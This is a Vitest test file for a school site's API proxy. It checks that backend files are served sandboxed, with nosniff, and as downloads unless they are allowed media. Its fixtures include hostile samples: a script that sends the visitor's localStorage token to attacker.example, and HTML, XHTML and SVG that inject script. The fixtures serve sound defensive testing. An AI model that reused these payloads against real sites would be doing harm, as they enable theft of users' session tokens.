import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { MAX_REQUEST_BODY_BYTES } from '../../../server/api-proxy'
import { createApp } from '../../../server/app'
import { createBackendCache } from '../../../server/backend-cache'
import { startHostileBackend, type HostileBackend } from './hostile-backend'

/**
 * Nothing from the backend runs in the site's origin. The backend answers each file with whatever
 * type (or none) and bytes a test gives it; whatever it sends, the site's origin serves it sandboxed, `nosniff`, and
 * either as one of the contract's file types (images, PDF, audio) or as a download of the same bytes, never as a page
 * or a script. The JSON calls too: a JSON answer opened as a page runs nothing, and an HTML one is not served as HTML.
 * The browser's side of it (the script of an HTML file never runs) is tests/e2e-server/backend-files.spec.ts.
 */

/** The policy every `/api/` answer carries (server/backend-files.ts). */
const SANDBOX_POLICY = "sandbox; default-src 'none'; img-src 'self' data:; media-src 'self'; style-src 'unsafe-inline'"
/** A refused type: bytes to save, never shown. */
const DOWNLOAD = 'application/octet-stream'

/** A file as the backend sends it: its `Content-Type` (undefined: none at all) and its bytes. */
interface BackendFile {
  type: string | undefined
  body: string
  disposition?: string
}

/** The attack: an HTML file whose script, from the site's origin, would read the visitor's token. */
const HTML_THAT_LOADS_A_SCRIPT = '<!doctype html><script src="/api/image?url=b.js"></script>'
const SCRIPT_THAT_READS_THE_TOKEN = 'fetch("https://attacker.example/?" + localStorage.token)'
const SVG_WITH_SCRIPT =
  '<svg xmlns="http://www.w3.org/2000/svg" width="8" height="8"><script>localStorage.pwned = 1</script></svg>'

/** Files no browser may show or run on the site's origin: each is sent as a download of its own bytes. */
const HOSTILE_FILES: Record<string, BackendFile> = {
  'a.html': { type: 'text/html; charset=utf-8', body: HTML_THAT_LOADS_A_SCRIPT },
  'b.js': { type: 'application/javascript', body: SCRIPT_THAT_READS_THE_TOKEN },
  'c.mjs': { type: 'text/javascript', body: SCRIPT_THAT_READS_THE_TOKEN },
  'd.xml': {
    type: 'text/xml',
    body: '<html xmlns="http://www.w3.org/1999/xhtml"><script>localStorage.pwned = 1</script></html>',
  },
  'e.xhtml': { type: 'application/xhtml+xml', body: '<html xmlns="http://www.w3.org/1999/xhtml"/>' },
  'f.unknown': { type: undefined, body: HTML_THAT_LOADS_A_SCRIPT },
  'g.txt': { type: 'text/plain', body: HTML_THAT_LOADS_A_SCRIPT },
  // A browser reads the last type of a list: this is HTML to it, whatever its first says.
  'h.png': { type: 'image/png; q=1, text/html', body: HTML_THAT_LOADS_A_SCRIPT },
  'i.css': { type: 'text/css', body: 'body { background: url(/api/image?url=b.js) }' },
  // The backend's `inline` does not make a refused type shown: its file name is kept, for the download.
  'j.html': { type: 'text/html', body: HTML_THAT_LOADS_A_SCRIPT, disposition: 'inline; filename="j.html"' },
}

/** The contract's file types: served as they are, sandboxed and `nosniff`. */
const CONTRACT_FILES: Record<string, BackendFile> = {
  'photo.jpg': { type: 'image/jpeg', body: '\xff\xd8\xff\xe0 jpeg' },
  'photo.png': { type: 'image/png', body: '\x89PNG\r\n\x1a\n png' },
  'photo.webp': { type: 'image/webp', body: 'RIFF webp' },
  'photo.gif': { type: 'image/gif', body: 'GIF89a gif' },
  'photo.avif': { type: 'image/avif', body: '\0\0\0 ftypavif' },
  'syllabus.pdf': { type: 'application/pdf', body: '%PDF-1.4 pdf' },
  'message.mp3': { type: 'audio/mpeg', body: 'ID3 mp3' },
  // Its script never runs: in an <img> scripts never do, and opened as a page it is sandboxed.
  'crest.svg': { type: 'image/svg+xml', body: SVG_WITH_SCRIPT },
  // A type that lies about its bytes: with nosniff the browser believes the type, and the HTML is a broken PNG.
  'lie.png': { type: 'image/png', body: HTML_THAT_LOADS_A_SCRIPT },
}

let backend: HostileBackend
let app: ReturnType<typeof createApp>

/** The file a request names: `?url=`, or the last segment of `/api/image/{path}`. */
function fileNameOf(url: string): string {
  const { pathname, searchParams } = new URL(url, 'http://backend.test')
  return (searchParams.get('url') ?? decodeURIComponent(pathname)).split('/').pop() ?? ''
}

beforeAll(async () => {
  const files: Record<string, BackendFile> = {
    ...HOSTILE_FILES,
    ...CONTRACT_FILES,
    'params.jpg': { type: 'IMAGE/JPEG; charset=binary; x="y"', body: 'jpeg' },
  }
  backend = await startHostileBackend((request, response) => {
    const url = request.url ?? ''
    if (url.startsWith('/api/news/') || url.startsWith('/api/events/')) {
      // A JSON call answered with JSON, one with an HTML page (the home news), and one with no type (the home events).
      if (url === '/api/news/DEMO01') {
        return void response.writeHead(200, { 'Content-Type': 'text/html' }).end('<p>x</p>')
      }
      if (url === '/api/events/DEMO01') return void response.writeHead(200).end('[]')
      return void response.writeHead(200, { 'Content-Type': 'application/json; charset=utf-8' }).end('[]')
    }
    const file = files[fileNameOf(url)]
    if (!file) return void response.writeHead(404, { 'Content-Type': 'text/html' }).end('<h1>Not found</h1>')
    const headers: Record<string, string> = {}
    if (file.type !== undefined) headers['Content-Type'] = file.type
    if (file.disposition !== undefined) headers['Content-Disposition'] = file.disposition
    response.writeHead(200, headers)
    // Node adds no type of its own: an answer without one reaches the server without one.
    response.end(Buffer.from(file.body, 'latin1'))
  })
  app = createApp({
    schoolCode: 'DEMO01',
    backend: createBackendCache({ backendUrl: backend.url }),
    // A deployment's own headers, without nosniff: the /api/ answers carry theirs whatever the deployment's are.
    securityHeaders: [
      ['Content-Security-Policy', "default-src 'self'; script-src 'self'"],
      ['Referrer-Policy', 'strict-origin-when-cross-origin'],
    ],
    log: () => undefined,
  })
})

afterAll(() => backend.close())

const request = (path: string, init?: RequestInit) => app.request(`http://school.test${path}`, init)

/** Each way the contract names a file: `?url=`, and by path (also the `{code}/public/Images/{file}` form). */
const FILE_ADDRESSES = [
  (name: string) => `/api/image?url=${encodeURIComponent(`uploads/${name}`)}`,
  (name: string) => `/api/image/uploads/${encodeURIComponent(name)}`,
  (name: string) => `/api/image/DEMO01/public/Images/${encodeURIComponent(name)}`,
]

function expectSandboxed(answer: Response, label: string) {
  expect(answer.headers.get('Content-Security-Policy'), label).toBe(SANDBOX_POLICY)
  expect(answer.headers.get('X-Content-Type-Options'), label).toBe('nosniff')
}

describe('files from the backend on the site’s origin', () => {
  for (const [name, file] of Object.entries(HOSTILE_FILES)) {
    it(`${name} (${file.type ?? 'no type'}): a sandboxed download of its own bytes, never a page or a script`, async () => {
      for (const address of FILE_ADDRESSES) {
        const path = address(name)
        const answer = await request(path)
        expect(answer.status, path).toBe(200)
        expect(answer.headers.get('Content-Type'), path).toBe(DOWNLOAD)
        expect(answer.headers.get('Content-Disposition'), path).toBe(
          file.disposition ? file.disposition.replace(/^inline/, 'attachment') : 'attachment',
        )
        expectSandboxed(answer, path)
        expect(Buffer.from(await answer.arrayBuffer()).toString('latin1'), path).toBe(file.body)
      }
    })
  }

  for (const [name, file] of Object.entries(CONTRACT_FILES)) {
    it(`${name} (${file.type}): served as it is, sandboxed and nosniff`, async () => {
      for (const address of FILE_ADDRESSES) {
        const path = address(name)
        const answer = await request(path)
        expect(answer.status, path).toBe(200)
        expect(answer.headers.get('Content-Type'), path).toBe(file.type)
        expect(answer.headers.get('Content-Disposition'), path).toBeNull()
        expectSandboxed(answer, path)
        expect(Buffer.from(await answer.arrayBuffer()).toString('latin1'), path).toBe(file.body)
      }
    })
  }

  it('a type’s parameters are dropped: only the type checked reaches the browser', async () => {
    const answer = await request('/api/image?url=params.jpg')
    expect(answer.headers.get('Content-Type')).toBe('image/jpeg')
    expectSandboxed(answer, 'params.jpg')
  })

  it('the same whichever way the cache answers: a copy, a HEAD, a call with a token, a backend error page', async () => {
    const path = `/api/image?url=${encodeURIComponent('uploads/a.html')}`
    await request(path)
    const kept = await request(path)
    expect(kept.headers.get('X-Backend-Cache')).toBe('HIT')
    const head = await request(path, { method: 'HEAD' })
    // A token's call goes to the backend as it is, never kept (backend-cache.ts): checked all the same.
    const withToken = await request(path, { headers: { Authorization: 'Bearer visitor-token' } })
    expect(withToken.headers.get('X-Backend-Cache')).toBe('BYPASS')
    // The backend's own 404 page, in HTML.
    const missing = await request('/api/image?url=gone.jpg')
    expect(missing.status).toBe(404)
    for (const [label, answer] of Object.entries({ kept, head, withToken, missing })) {
      expect(answer.headers.get('Content-Type'), label).toBe(DOWNLOAD)
      expect(answer.headers.get('Content-Disposition'), label).toBe('attachment')
      expectSandboxed(answer, label)
    }
  })
})

describe('the JSON calls on the site’s origin', () => {
  it('JSON is served as JSON, sandboxed: opened as a page, nothing in it runs', async () => {
    const answer = await request('/api/news/all/DEMO01')
    expect(answer.headers.get('Content-Type')).toBe('application/json')
    expect(answer.headers.get('Content-Disposition')).toBeNull()
    expectSandboxed(answer, 'json')
    expect(await answer.json()).toEqual([])
  })

  it('an HTML page, or an answer of no type, in answer to a JSON call is never served as a page', async () => {
    for (const code of ['/api/news/DEMO01', '/api/events/DEMO01']) {
      const answer = await request(code)
      expect(answer.status, code).toBe(200)
      expect(answer.headers.get('Content-Type'), code).toBe(DOWNLOAD)
      expect(answer.headers.get('Content-Disposition'), code).toBe('attachment')
      expectSandboxed(answer, code)
    }
  })

  it('the server’s own answers on /api/ are sandboxed too: a refusal, a body too large, no backend', async () => {
    const refused = await request('/api/no-such-call')
    const tooLarge = await request('/api/tc/DEMO01', {
      method: 'POST',
      headers: { 'Content-Type': 'application/json' },
      body: 'x'.repeat(MAX_REQUEST_BODY_BYTES + 1),
    })
    expect(tooLarge.status).toBe(413)
    const demo = createApp({ schoolCode: 'DEMO01', backend: undefined, securityHeaders: [], log: () => undefined })
    const noBackend = await demo.request('http://school.test/api/news/all/DEMO01')
    expect(noBackend.status).toBe(503)
    for (const [label, answer] of Object.entries({ refused, tooLarge, noBackend })) expectSandboxed(answer, label)
  })
})
